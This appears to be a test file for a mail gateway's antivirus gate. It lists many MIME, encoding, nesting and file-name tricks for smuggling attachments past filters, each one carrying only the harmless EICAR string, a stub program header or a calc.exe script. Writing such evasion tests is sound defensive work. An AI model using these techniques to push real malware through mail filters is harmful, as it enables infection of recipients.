"""Ways past a gateway that others have found, a line each: none of them gets a virus, a program or a script accepted.

A trick is stopped when the gate of item 1 holds or refuses the message, with the settings as they are by default.
What carries no virus and no program in the same clothes is in `test_honest_mail.py`.
"""

# ruff: noqa: E501 - one line for each, so that they can be read as a table.
from __future__ import annotations

import base64
import binascii
import bz2
import gzip
import io
import lzma
import quopri
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

import pytest

from lockdown.checklist.antivirus.gate import message as judged
from lockdown.config import Settings
from lockdown.model.scan import Examined
from lockdown.model.verdict import Kind, Verdict
from lockdown.scan.builtin import Builtin
from tests.checklist.antivirus.test_gate import MAIL, NOBODY
from tests.scan.parcels import (
    EICAR,
    archived,
    encrypted_zip,
    message,
    uuencoded,
    zip_central,
    zip_end,
    zip_local,
    zipped,
)

SETTINGS = Settings()
ENGINE = Builtin(SETTINGS.antivirus)
PROGRAM = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(300)
SCRIPT = b'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc.exe");\r\n'
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89\0\0\0\0IEND\xaeB`\x82"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
GIF = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
HEAD = b"From: a@example.org\r\nTo: b@example.net\r\nSubject: files\r\nMIME-Version: 1.0\r\n"


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def verdict(content: bytes) -> Verdict:
    """What the gate of item 1 says, after the way that the gateway takes."""
    reading = ENGINE.at_once(content) or ENGINE.read(content)
    return judged(Examined(MAIL, reading, (), NOBODY, ()), SETTINGS)


TRICKS: dict[str, Callable[[], bytes]] = {}


def trick(name: str, make: Callable[[], bytes] | bytes) -> None:
    assert name not in TRICKS, name
    TRICKS[name] = make if callable(make) else lambda: make


def mail(header: bytes, body: bytes) -> bytes:
    return HEAD + header + b"\r\n\r\n" + body


def multipart(*parts: bytes, kind: bytes = b'multipart/mixed; boundary="b"', close: bytes = b"--b--\r\n") -> bytes:
    return mail(b"Content-Type: " + kind, b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + close)


def attached(name: str, make: Callable[[], bytes]) -> bytes:
    """A letter with one file, which is made when it is needed."""
    return message((name, make()))


TEXT = b"Content-Type: text/plain\r\n\r\nhello"
VIRUS = b"Content-Type: application/octet-stream; name=a.com\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(EICAR)


def virus(header: bytes, data: bytes | None = None) -> bytes:
    """A letter with one part: this header, and the test virus in base64."""
    return multipart(TEXT, header + b"\r\n\r\n" + (b64(EICAR) if data is None else data))


B64 = b"Content-Transfer-Encoding: base64"
OCTETS = b"Content-Type: application/octet-stream"

# ── how a part is announced ──

for name, header in {
    "folded type": b"Content-Type:\r\n application/octet-stream;\r\n\tname=a.com\r\n" + B64,
    "folded before the colon's value, twice": b"Content-Transfer-Encoding:\r\n \r\n base64\r\n" + OCTETS,
    "comment in the encoding": OCTETS + b"\r\nContent-Transfer-Encoding: (x) base64 (y)",
    "nested comment in the encoding": OCTETS + b"\r\nContent-Transfer-Encoding: (x(y)\\)) base64",
    "encoding in odd case": OCTETS + b"\r\ncOnTeNt-TrAnSfEr-EnCoDiNg: BaSe64",
    "encoding in quotes": OCTETS + b'\r\nContent-Transfer-Encoding: "base64"',
    "encoding with a semicolon": OCTETS + b"\r\nContent-Transfer-Encoding: base64; x=y",
    "encoding with a full stop": OCTETS + b"\r\nContent-Transfer-Encoding: base64.",
    "encoding with a comma": OCTETS + b"\r\nContent-Transfer-Encoding: base64, 7bit",
    "encoding x-base64": OCTETS + b"\r\nContent-Transfer-Encoding: x-base64",
    "encoding base-64": OCTETS + b"\r\nContent-Transfer-Encoding: base-64",
    "encoding with NUL": OCTETS + b"\r\nContent-Transfer-Encoding: base64\0",
    "encoding with a vertical tab": OCTETS + b"\r\nContent-Transfer-Encoding:\x0bbase64",
    "encoding as an encoded word": OCTETS + b"\r\nContent-Transfer-Encoding: =?us-ascii?q?base64?=",
    "encoding behind white space before the colon": OCTETS + b"\r\nContent-Transfer-Encoding : base64",
    "encoding twice, base64 first": OCTETS + b"\r\n" + B64 + b"\r\nContent-Transfer-Encoding: 7bit",
    "encoding twice, base64 last": OCTETS + b"\r\nContent-Transfer-Encoding: 7bit\r\n" + B64,
    "encoding unknown": OCTETS + b"\r\nContent-Transfer-Encoding: foo",
    "encoding binary for base64": OCTETS + b"\r\nContent-Transfer-Encoding: binary",
    "encoding missing": OCTETS + b"; name=a.com",
    "encoding uuencode for base64": OCTETS + b"\r\nContent-Transfer-Encoding: uuencode",
    "encoding in a Content-Type of two fields": b"Content-Type: text/plain\r\n" + OCTETS + b"\r\n" + B64,
    "type without a subtype": b"Content-Type: application\r\n" + B64,
    "type empty": b"Content-Type:\r\n" + B64,
    "type of nonsense": b"Content-Type: ;;;/;\r\n" + B64,
    "type of a picture": b"Content-Type: image/png; name=a.png\r\n" + B64,
    "type of text": b"Content-Type: text/plain\r\n" + B64,
    "type of HTML": b"Content-Type: text/html\r\n" + B64,
    "type message/rfc822": b"Content-Type: message/rfc822\r\n" + B64,
    "type message/delivery-status": b"Content-Type: message/delivery-status\r\n" + B64,
    "type text/rfc822-headers": b"Content-Type: text/rfc822-headers\r\n" + B64,
    "type multipart without parts": b"Content-Type: multipart/mixed; boundary=none\r\n" + B64,
    "type application/pgp-encrypted": b"Content-Type: application/pgp-encrypted\r\n" + B64,
    "type application/pkcs7-mime": b"Content-Type: application/pkcs7-mime; name=smime.p7m\r\n" + B64,
    "type application/applefile": b"Content-Type: application/applefile\r\n" + B64,
    "header with bare LF": OCTETS + b"\n" + B64 + b"\n",
    "header with bare CR": OCTETS + b"\r" + B64,
    "header with text in it": b"not a field\r\n" + OCTETS + b"\r\n" + B64,
    "header with an empty name": b": x\r\n" + OCTETS + b"\r\n" + B64,
    "header behind a thousand fields": b"X: y\r\n" * 1000 + OCTETS + b"\r\n" + B64,
    "header of a long line": b"X: " + b"y" * 30_000 + b"\r\n" + OCTETS + b"\r\n" + B64,
    "header with UTF-8 mark": b"\xef\xbb\xbf" + OCTETS + b"\r\n" + B64,
}.items():  # fmt: skip
    trick(f"part: {name}", partial(virus, header))

trick("no header at all, base64", lambda: b64(EICAR))
trick("whole message: single part attachment", lambda: mail(OCTETS + b"; name=a.com\r\n" + B64, b64(EICAR)))
trick("whole message: program as single part", lambda: mail(OCTETS + b"\r\n" + B64, b64(PROGRAM)))
trick("whole message: text that claims no encoding", lambda: mail(b"Content-Type: text/plain", b64(EICAR)))
trick("whole message: without MIME-Version", lambda: VIRUS.replace(b"\r\n\r\n", b"\r\nSubject: x\r\n\r\n", 1))
trick("whole message: behind an mbox line", lambda: b"From x Thu Jan  1 00:00:00 2026\r\n" + multipart(TEXT, VIRUS))
trick("whole message: text above its header", lambda: b"hello\r\n" + multipart(TEXT, VIRUS))
trick("whole message: empty line first", lambda: b"\r\n" + multipart(TEXT, VIRUS))
trick("whole message: all line ends LF", lambda: multipart(TEXT, VIRUS).replace(b"\r\n", b"\n"))
trick("whole message: all line ends CR", lambda: multipart(TEXT, VIRUS).replace(b"\r\n", b"\r"))
trick("whole message: line ends CR CR LF", lambda: multipart(TEXT, VIRUS).replace(b"\r\n", b"\r\r\n"))
trick("whole message: line ends LF CR", lambda: multipart(TEXT, VIRUS).replace(b"\r\n", b"\n\r"))
trick("whole message: NUL all over", lambda: multipart(TEXT, VIRUS).replace(b"boundary", b"boun\0dary"))
trick("whole message: UTF-8 mark first", lambda: b"\xef\xbb\xbf" + multipart(TEXT, VIRUS))
trick(
    "whole message: two Content-Type, multipart last",
    lambda: multipart(TEXT, VIRUS).replace(b"Content-Type: multi", b"Content-Type: text/plain\r\nContent-Type: multi"),
)
trick(
    "whole message: two Content-Type, multipart first",
    lambda: multipart(TEXT, VIRUS).replace(b'"b"\r\n', b'"b"\r\nContent-Type: text/plain\r\n', 1),
)

# ── boundaries ──

for name, kind in {
    "in single quotes": b"multipart/mixed; boundary='b'",
    "unquoted, a comment behind it": b"multipart/mixed; boundary=b (comment)",
    "a comment before it": b"multipart/mixed; (boundary=x) boundary=b",
    "in a comment of the type": b"multipart/(x)mixed; boundary=b",
    "twice, right first": b"multipart/mixed; boundary=b; boundary=x",
    "twice, right last": b"multipart/mixed; boundary=x; boundary=b",
    "in pieces": b"multipart/mixed; boundary*0=; boundary*1=b",
    "extended": b"multipart/mixed; boundary*=us-ascii''%62",
    "plain and extended differ": b"multipart/mixed; boundary=x; boundary*=us-ascii''b",
    "plain and pieces differ": b"multipart/mixed; boundary=x; boundary*0=b",
    "as an encoded word": b"multipart/mixed; boundary==?us-ascii?q?b?=",
    "with an escape": b'multipart/mixed; boundary="\\b"',
    "with a space at its end": b'multipart/mixed; boundary="b "',
    "with a space at its start": b'multipart/mixed; boundary=" b"',
    "without a closing quote": b'multipart/mixed; boundary="b',
    "quote and tail": b'multipart/mixed; boundary="b"x',
    "in capitals": b"multipart/mixed; BOUNDARY=b",
    "space around the equals sign": b"multipart/mixed; boundary = b",
    "no semicolon before it": b"multipart/mixed boundary=b",
    "a comma before it": b"multipart/mixed, boundary=b",
    "folded": b"multipart/mixed;\r\n\tboundary\r\n =\r\n b",
    "missing": b"multipart/mixed",
    "empty": b'multipart/mixed; boundary=""',
    "of multipart without subtype": b"multipart; boundary=b",
    "of multipart/": b"multipart/; boundary=b",
    "with NUL": b"multipart/mixed; boundary=b\0",
    "with a semicolon at its end": b"multipart/mixed; boundary=b;;;",
    "in a type in quotes": b'"multipart/mixed"; boundary=b',
    "of an unknown multipart": b"multipart/x-unknown; boundary=b",
    "of multipart/alternative": b"multipart/alternative; boundary=b",
    "of multipart/signed": b"multipart/signed; boundary=b; protocol=x",
    "of multipart/encrypted": b"multipart/encrypted; boundary=b",
    "of multipart/report": b"multipart/report; boundary=b",
    "of multipart/appledouble": b"multipart/appledouble; boundary=b",
    "of multipart/digest": b"multipart/digest; boundary=b",
    "of multipart/form-data": b"multipart/form-data; boundary=b",
}.items():  # fmt: skip
    trick(f"boundary: {name}", partial(multipart, TEXT, VIRUS, kind=kind))

trick("boundary: never closed", lambda: multipart(TEXT, VIRUS, close=b""))
trick("boundary: part after the end", lambda: multipart(TEXT, close=b"--b--\r\n--b\r\n" + VIRUS + b"\r\n--b--\r\n"))
trick(
    "boundary: part in the preamble",
    lambda: mail(b"Content-Type: multipart/mixed; boundary=b", VIRUS + b"\r\n--b\r\n" + TEXT + b"\r\n--b--\r\n"),
)
trick(
    "boundary: bare base64 in the preamble",
    lambda: mail(b"Content-Type: multipart/mixed; boundary=b", b64(EICAR) + b"\r\n--b\r\n" + TEXT + b"\r\n--b--\r\n"),
)
trick(
    "boundary: bare EICAR in the preamble",
    lambda: mail(b"Content-Type: multipart/mixed; boundary=b", EICAR + b"\r\n--b\r\n" + TEXT + b"\r\n--b--\r\n"),
)
trick("boundary: bare EICAR in the epilogue", lambda: multipart(TEXT, close=b"--b--\r\n" + EICAR))
trick(
    "boundary: another multipart in the epilogue",
    lambda: multipart(TEXT, close=b"--b--\r\n\r\n--c\r\n" + VIRUS + b"\r\n--c--\r\n"),
)
trick("boundary: space behind it", lambda: multipart(TEXT, VIRUS).replace(b"--b\r\n", b"--b \t\r\n"))
trick("boundary: space before it", lambda: multipart(TEXT, VIRUS).replace(b"--b\r\n", b" --b\r\n"))
trick("boundary: text behind it", lambda: multipart(TEXT, VIRUS).replace(b"--b\r\n", b"--bX\r\n"))
trick(
    "boundary: three dashes behind it",
    lambda: multipart(TEXT, VIRUS).replace(b"--b\r\n" + VIRUS[:5], b"--b---\r\n" + VIRUS[:5]),
)
trick("boundary: bare LF around it", lambda: multipart(TEXT, VIRUS).replace(b"\r\n--b\r\n", b"\n--b\n"))
trick("boundary: bare CR around it", lambda: multipart(TEXT, VIRUS).replace(b"\r\n--b\r\n", b"\r--b\r"))
trick(
    "boundary: used again within",
    lambda: multipart(TEXT, b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n' + VIRUS + b"\r\n--b--"),
)
trick(
    "boundary: a prefix of the inner one",
    lambda: multipart(TEXT, b"Content-Type: multipart/mixed; boundary=bb\r\n\r\n--bb\r\n" + VIRUS + b"\r\n--bb--"),
)
trick(
    "boundary: inner never closed",
    lambda: multipart(b"Content-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n" + TEXT, VIRUS),
)
trick(
    "boundary: close first, then parts",
    lambda: mail(b"Content-Type: multipart/mixed; boundary=b", b"--b--\r\n--b\r\n" + VIRUS + b"\r\n--b--\r\n"),
)
trick(
    "boundary: of 300 octets",
    lambda: multipart(TEXT, VIRUS, kind=b"multipart/mixed; boundary=" + b"b" * 300, close=b"").replace(
        b"--b\r\n", b"--" + b"b" * 300 + b"\r\n"
    ),
)
trick("boundary: no header in the part", lambda: multipart(b"\r\n" + b64(EICAR)))
trick("boundary: fifteen multiparts deep", lambda: deep(15))
trick("boundary: forty multiparts deep", lambda: deep(40))
trick(
    "multipart in base64",
    lambda: mail(b"Content-Type: multipart/mixed; boundary=b\r\n" + B64, b64(b"--b\r\n" + VIRUS + b"\r\n--b--\r\n")),
)
trick(
    "multipart in quoted-printable",
    lambda: mail(
        b"Content-Type: multipart/mixed; boundary=b\r\nContent-Transfer-Encoding: quoted-printable",
        quopri.encodestring(b"--b\r\n" + VIRUS + b"\r\n--b--\r\n").replace(b"--b", b"=2D-b"),
    ),
)
trick("a thousand parts, then it", lambda: multipart(*[TEXT] * 1100, VIRUS))


def deep(levels: int) -> bytes:
    inner = VIRUS
    for level in range(levels):
        name = b"x%d" % level
        inner = b"Content-Type: multipart/mixed; boundary=%b\r\n\r\n--%b\r\n%b\r\n--%b--" % (name, name, inner, name)
    return HEAD + inner


# ── encodings ──

E = base64.b64encode(EICAR)
for name, data in {
    "lines of one sign": b"\r\n".join(E[at : at + 1] for at in range(len(E))),
    "spaces within": b" ".join(E[at : at + 3] for at in range(0, len(E), 3)),
    "foreign signs within": b"!".join(E[at : at + 5] for at in range(0, len(E), 5)),
    "high octets within": b"\xff".join(E[at : at + 7] for at in range(0, len(E), 7)),
    "NUL within": b"\0".join(E[at : at + 7] for at in range(0, len(E), 7)),
    "padding within": base64.b64encode(EICAR[:31]) + base64.b64encode(EICAR[31:]),
    "padding at each line": b"\r\n".join(base64.b64encode(EICAR[at : at + 10]) for at in range(0, 68, 10)),
    "padding missing": E.rstrip(b"="),
    "too much padding": E + b"====",
    "padding first": b"====" + E,
    "for URLs": base64.urlsafe_b64encode(b"\xff\xfe\xfb" * 30 + EICAR),
    "dashes of a boundary's kind within": E[:40] + b"\r\n--\r\n" + E[40:],
    "text behind it": E + b"\r\n\r\nThis message was scanned.\r\n",
    "text before it": b"A note:\r\n\r\n" + E,
    "a line too long": E * 40,
    "quoted-printable soft breaks within": b"=\r\n".join(E[at : at + 9] for at in range(0, len(E), 9)),
    "quoted-printable in it": quopri.encodestring(E, quotetabs=True).replace(b"A", b"=41"),
    "twice": base64.b64encode(E),
    "an empty line within": E[:40] + b"\r\n\r\n" + E[40:],
    "URL-quoted": E.replace(b"=", b"%3D").replace(b"+", b"%2B"),
    "one sign off": b"A" + E,
}.items():  # fmt: skip
    trick(f"base64: {name}", partial(virus, OCTETS + b"; name=a.com\r\n" + B64, data))

QP = b"Content-Transfer-Encoding: quoted-printable"
for name, data in {
    "every octet": b"".join(b"=%02X" % octet for octet in EICAR),
    "small letters": b"".join(b"=%02x" % octet for octet in EICAR),
    "soft breaks everywhere": b"=\r\n".join(b"=%02X" % octet for octet in EICAR),
    "soft breaks of LF": b"=\n".join(b"=%02X" % octet for octet in EICAR),
    "soft breaks with blanks": b"= \t\r\n".join(b"=%02X" % octet for octet in EICAR),
    "soft breaks of CR": b"=\r".join(b"=%02X" % octet for octet in EICAR),
    "base64 in it": quopri.encodestring(E).replace(b"E", b"=45"),
}.items():  # fmt: skip
    trick(f"quoted-printable: {name}", partial(virus, OCTETS + b"; name=a.com\r\n" + QP, data))

trick("uuencode: in a text", lambda: multipart(TEXT + b"\r\n" + uuencoded(b"a.com", EICAR)))
trick(
    "uuencode: as an encoding",
    lambda: virus(OCTETS + b"\r\nContent-Transfer-Encoding: x-uuencode", uuencoded(b"a.com", EICAR)),
)
trick(
    "uuencode: without a begin line",
    lambda: virus(
        OCTETS + b"\r\nContent-Transfer-Encoding: x-uuencode", uuencoded(b"a.com", EICAR).partition(b"\n")[2]
    ),
)
trick(
    "uuencode: in an HTML part",
    lambda: multipart(b"Content-Type: text/html\r\n\r\n<pre>\r\n" + uuencoded(b"a.com", EICAR) + b"</pre>"),
)
trick(
    "uuencode: within quoted-printable",
    lambda: virus(
        b"Content-Type: text/plain\r\n" + QP,
        quopri.encodestring(uuencoded(b"a.com", EICAR)).replace(b"begin", b"=62egin"),
    ),
)
trick(
    "uuencode: within base64 text",
    lambda: virus(b"Content-Type: text/plain\r\n" + B64, b64(b"hi\n" + uuencoded(b"a.com", EICAR))),
)
trick("uuencode: no MIME at all", lambda: b"Subject: x\r\nFrom: a@b.c\r\n\r\nhi\r\n" + uuencoded(b"a.com", EICAR))
trick(
    "uuencode: base64 form",
    lambda: b"Subject: x\r\nFrom: a@b.c\r\n\r\nbegin-base64 644 a.com\r\n" + b64(EICAR) + b"====\r\n",
)
trick(
    "uuencode: spaces as quoting",
    lambda: b"Subject: x\r\nFrom: a@b.c\r\n\r\n" + uuencoded(b"a.com", PROGRAM).replace(b" ", b"`"),
)
trick(
    "uuencode: odd mode",
    lambda: b"Subject: x\r\nFrom: a@b.c\r\n\r\n" + uuencoded(b"a.com", EICAR).replace(b"begin 644", b"begin 0100644"),
)
trick(
    "uuencode: indented",
    lambda: b"Subject: x\r\nFrom: a@b.c\r\n\r\n" + uuencoded(b"a.com", EICAR).replace(b"begin", b" begin"),
)
trick("EICAR in the text itself", lambda: multipart(b"Content-Type: text/plain\r\n\r\n" + EICAR))
trick(
    "EICAR in UTF-16",
    lambda: virus(b"Content-Type: text/plain; charset=utf-16\r\n" + B64, b64(EICAR.decode().encode("utf-16"))),
)
trick(
    "EICAR in UTF-16 without a mark",
    lambda: virus(b"Content-Type: text/plain; charset=utf-16le\r\n" + B64, b64(EICAR.decode().encode("utf-16-le"))),
)
trick(
    "gzip as an encoding",
    lambda: virus(OCTETS + b"; name=a.com\r\nContent-Encoding: gzip\r\n" + B64, b64(gzip.compress(EICAR))),
)
trick(
    "deflate as an encoding",
    lambda: virus(OCTETS + b"; name=a.com\r\nContent-Encoding: deflate\r\n" + B64, b64(zlib.compress(EICAR))),
)

# ── messages in messages, and parts elsewhere ──

WHOLE = HEAD + b"Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n" + VIRUS + b"\r\n--i--\r\n"
trick("message/rfc822", lambda: virus(b"Content-Type: message/rfc822", WHOLE))
trick("message/rfc822 in base64", lambda: virus(b"Content-Type: message/rfc822\r\n" + B64, b64(WHOLE)))
trick(
    "message/rfc822 in quoted-printable",
    lambda: virus(b"Content-Type: message/rfc822\r\n" + QP, quopri.encodestring(WHOLE)),
)
trick("message/global in base64", lambda: virus(b"Content-Type: message/global\r\n" + B64, b64(WHOLE)))
trick("message as application/octet-stream .eml", lambda: message(("a.eml", WHOLE)))
trick("message in a zip", lambda: message(("a.zip", zipped({"a.eml": WHOLE}))))
trick("message in a text attachment .txt", lambda: message(("a.txt", WHOLE)))
trick("message ten deep", lambda: nested(10))
trick("message thirty deep", lambda: nested(30))
trick("mailbox", lambda: message(("a.mbox", b"From x Thu Jan  1 00:00:00 2026\n" + WHOLE.replace(b"\r\n", b"\n"))))
trick("emlx", lambda: message(("a.emlx", b"%d\n" % len(WHOLE) + WHOLE + b"<?xml?>")))
trick("message/partial", lambda: mail(b'Content-Type: message/partial; id="x@y"; number=1; total=2', WHOLE))
trick(
    "message/external-body",
    lambda: virus(
        b"Content-Type: message/external-body; access-type=anon-ftp; site=x; name=a.com",
        b"Content-Type: application/octet-stream\r\n",
    ),
)
trick("MHT", lambda: message(("a.mht", WHOLE)))
trick("MHT named .doc", lambda: message(("a.doc", WHOLE)))
trick(
    "multipart/related with a program by cid", lambda: virus(OCTETS + b"\r\nContent-ID: <x@y>\r\n" + B64, b64(PROGRAM))
)
trick(
    "calendar with an inline file",
    lambda: virus(
        b"Content-Type: text/calendar; method=REQUEST",
        b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.com:"
        + E
        + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
    ),
)
trick(
    "calendar with a folded inline file",
    lambda: virus(
        b"Content-Type: text/calendar; method=REQUEST",
        b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.com:"
        + b"\r\n ".join(E[at : at + 60] for at in range(0, len(E), 60))
        + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
    ),
)
trick(
    "calendar with a program",
    lambda: message(
        (
            "a.ics",
            b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:"
            + base64.b64encode(PROGRAM)
            + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        )
    ),
)
trick(
    "contact with a program as its photo",
    lambda: message(("a.vcf", b"BEGIN:VCARD\r\nPHOTO;ENCODING=b:" + base64.b64encode(PROGRAM) + b"\r\nEND:VCARD\r\n")),
)


def nested(levels: int) -> bytes:
    inner = WHOLE
    for _ in range(levels):
        inner = HEAD + b"Content-Type: message/rfc822\r\n\r\n" + inner
    return inner


# ── names ──

for name, filename in {
    "double extension": "invoice.pdf.js",
    "spaces before the extension": "invoice.pdf" + " " * 80 + ".js",
    "right-to-left override": "invoice\u202efdp.js",
    "trailing dot": "invoice.js.",
    "trailing spaces": "invoice.js   ",
    "trailing no-break space": "invoice.js\u00a0",
    "alternate stream": "invoice.txt:evil.js",
    "alternate stream of a script": "evil.js::$DATA",
    "zero width in the extension": "invoice.j\u200bs",
    "soft hyphen in the extension": "invoice.j\u00ads",
    "full width letters": "invoice.\uff4a\uff53",
    "capitals": "INVOICE.JS",
    "slash": "a/b\\c.js",
    "in quotes": '"invoice.js"',
    "very long": "x" * 2000 + ".js",
    "NUL": "invoice.js\0.txt",
    "tab": "invoice.\tjs",
    "of .jse": "a.jse", "of .wsf": "a.wsf", "of .hta": "a.hta", "of .cmd": "a.cmd", "of .vbs": "a.vbs",
    "of .ps1": "a.ps1", "of .scr": "a.scr", "of .cpl": "a.cpl", "of .pif": "a.pif", "of .wsh": "a.wsh",
    "of .sct": "a.sct", "of .lnk": "a.lnk", "of .url": "a.url", "of .msc": "a.msc", "of .reg": "a.reg",
    "of .inf": "a.inf", "of .scf": "a.scf", "of .ws": "a.ws", "of .vb": "a.vb", "of .py": "a.py", "of .jar": "a.jar",
    "of .library-ms": "a.library-ms", "of .appref-ms": "a.appref-ms", "of .settingcontent-ms": "a.settingcontent-ms",
    "of .xll": "a.xll", "of .iqy": "a.iqy", "of .chm": "a.chm", "of .rdp": "a.rdp", "of .application": "a.application",
    "of .msi": "a.msi", "of .gadget": "a.gadget", "of .bat": "a.bat", "of .com": "a.com", "of .ps1xml": "a.ps1xml",
    "of .website": "a.website", "of .diagcab": "a.diagcab", "of .mjs": "a.mjs", "of .mde": "a.mde",
    "of .xbap": "a.xbap", "of .vhd": "a.vhd", "of .img": "a.img", "of .desktop": "a.desktop", "of .command": "a.command",
     "of .csh": "a.csh", "of .ade": "a.ade", "of .fxp": "a.fxp", "of .grp": "a.grp",
    "of .jnlp": "a.jnlp", "of .ksh": "a.ksh", "of .mad": "a.mad", "of .maf": "a.maf", "of .mam": "a.mam",
    "of .mst": "a.mst", "of .ops": "a.ops",  "of .printerexport": "a.printerexport",
    "of .psdm1": "a.psdm1",  "of .vbp": "a.vbp", "of .vsmacros": "a.vsmacros", "of .vsw": "a.vsw",
    "of .hlp": "a.hlp", "of .msh": "a.msh", "of .msh1": "a.msh1", "of .mshxml": "a.mshxml", "of .bas": "a.bas",  "of .udl": "a.udl", "of .osd": "a.osd", "of .workflow": "a.workflow",  "of .pyz": "a.pyz", "of .pyzw": "a.pyzw",  "of .rb": "a.rb", "of .ahk": "a.ahk",   "of .appinstaller": "a.appinstaller", "of .appcontent-ms": "a.appcontent-ms",     "of .mag": "a.mag", "of .maq": "a.maq", "of .mar": "a.mar", "of .mas": "a.mas",  "of .mau": "a.mau", "of .mav": "a.mav", "of .maw": "a.maw", "of .mcf": "a.mcf", "of .mda": "a.mda", "of .mdt": "a.mdt", "of .mdw": "a.mdw", "of .mdz": "a.mdz", "of .plg": "a.plg", "of .prf": "a.prf", "of .scr in capitals": "A.ScR",  "of .xnk": "a.xnk", "of .vsto": "a.vsto", "of .accda": "a.accda", "of .accdc": "a.accdc", "of .accdr": "a.accdr", "of .accdt": "a.accdt", "of .accdu": "a.accdu", "of .adp": "a.adp",  "of .pl": "a.pl", "of .php": "a.php", "of .theme": "a.theme",  "of .searchconnector-ms": "a.searchconnector-ms", "of .wcx": "a.wcx", "of .msp": "a.msp", "of .isp": "a.isp", "of .ins": "a.ins",
}.items():  # fmt: skip
    if filename:
        trick(f"name: {name}", partial(message, (filename, SCRIPT)))

for name, header in {
    "in pieces": b'Content-Disposition: attachment; filename*0=a.; filename*1=js',
    "extended": b"Content-Disposition: attachment; filename*=utf-8''a%2ejs",
    "extended, no charset": b"Content-Disposition: attachment; filename*=''a%2ejs",
    "encoded word": b'Content-Disposition: attachment; filename="=?utf-8?b?' + base64.b64encode(b"a.js") + b'?="',
    "encoded word, unquoted": b"Content-Disposition: attachment; filename==?utf-8?q?a=2Ejs?=",
    "encoded words in two": b'Content-Disposition: attachment; filename="=?utf-8?q?a=2E?= =?utf-8?q?js?="',
    "encoded word in UTF-16": b'Content-Disposition: attachment; filename="=?utf-16?b?' + base64.b64encode("a.js".encode("utf-16")) + b'?="',
    "encoded word in UTF-7": b'Content-Disposition: attachment; filename="=?utf-7?q?a+AC4-js?="',
    "encoded word, unknown charset": b'Content-Disposition: attachment; filename="=?x-foo?q?a=2Ejs?="',
    "of Content-Type alone": OCTETS + b"; name=a.js",
    "of Content-Type against disposition": OCTETS + b'; name=a.js\r\nContent-Disposition: attachment; filename="a.txt"',
    "of disposition against Content-Type": OCTETS + b'; name=a.txt\r\nContent-Disposition: attachment; filename="a.js"',
    "twice": b"Content-Disposition: attachment; filename=a.txt; filename=a.js",
    "twice, other order": b"Content-Disposition: attachment; filename=a.js; filename=a.txt",
    "two dispositions": b"Content-Disposition: attachment; filename=a.txt\r\nContent-Disposition: attachment; filename=a.js",
    "plain and extended differ": b"Content-Disposition: attachment; filename=a.txt; filename*=utf-8''a.js",
    "unquoted with spaces": b"Content-Disposition: attachment; filename=my file.txt .js",
    "unquoted, quote within": b'Content-Disposition: attachment; filename=a".txt".js',
    "escaped": b'Content-Disposition: attachment; filename="a.\\j\\s"',
    "comment behind": b"Content-Disposition: attachment; filename=a.js (.txt)",
    "comment within": b"Content-Disposition: attachment; filename=a(x).js",
    "space before equals": b"Content-Disposition: attachment; filename = a.js",
    "no semicolon": b"Content-Disposition: attachment filename=a.js",
    "single quotes": b"Content-Disposition: attachment; filename='a.js'",
    "folded": b'Content-Disposition: attachment; filename="a.\r\n js"',
    "of Content-Description": OCTETS + b"\r\nContent-Description: a.js",
    "of Content-Location": OCTETS + b"\r\nContent-Location: a.js",
    "disposition without a value": b"Content-Disposition: ; filename=a.js",
    "pieces out of order": b"Content-Disposition: attachment; filename*1=js; filename*0=a.",
    "pieces with a hole": b"Content-Disposition: attachment; filename*0=a.; filename*2=js",
    "pieces, some extended": b"Content-Disposition: attachment; filename*0*=utf-8''a; filename*1=.js",
    "percents in a plain name": b'Content-Disposition: attachment; filename="a%2ejs"',
    "inline": b'Content-Disposition: inline; filename="a.js"',
    "text/plain inline": b'Content-Type: text/plain; name="a.js"\r\nContent-Disposition: inline',
    "text/javascript without a name": b"Content-Type: text/javascript\r\nContent-Disposition: attachment",
    "application/hta without a name": b"Content-Type: application/hta",
    "application/x-msdownload without a name": b"Content-Type: application/x-msdownload",
}.items():  # fmt: skip
    trick(
        f"field of the name: {name}",
        partial(multipart, TEXT, header + b"\r\n" + B64 + b"\r\n\r\n" + b64(SCRIPT)),
    )

# ── archives ──


def zipfile_of(*members: tuple[str, bytes], **how: object) -> bytes:
    octets = io.BytesIO()
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(octets, "w", **how) as archive:  # type: ignore[call-overload]
        for name, data in members:
            archive.writestr(name, data)
    return octets.getvalue()


def streamed_zip(method: int = zipfile.ZIP_DEFLATED) -> bytes:
    class Unseekable(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def seek(self, *_: object) -> int:
            raise OSError

        def tell(self) -> int:
            raise OSError

    octets = Unseekable()
    with zipfile.ZipFile(octets, "w", method) as archive:
        archive.writestr("a.com", EICAR)
    return octets.getvalue()


def changed(data: bytes, *changes: tuple[int, bytes]) -> bytes:
    octets = bytearray(data)
    for at, new in changes:
        octets[at : at + len(new)] = new
    return bytes(octets)


